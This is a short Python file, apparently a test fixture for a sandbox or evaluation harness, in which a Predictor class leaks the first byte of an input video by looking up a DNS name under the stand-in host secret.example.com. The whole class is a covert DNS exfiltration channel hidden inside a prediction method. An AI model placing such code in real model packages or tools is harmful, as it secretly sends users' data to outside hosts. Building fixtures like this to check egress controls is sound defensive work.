"""Carries data out in the names it looks up."""

import socket


class Predictor:
    def __init__(self, package):
        self.package = package

    def predict(self, video):
        number = video.read_bytes()[0]
        try:
            socket.getaddrinfo(f"{number}.secret.example.com", 80)
        except OSError as error:
            print("EVIDENCE", error)
            return 0.0
        return 1.0
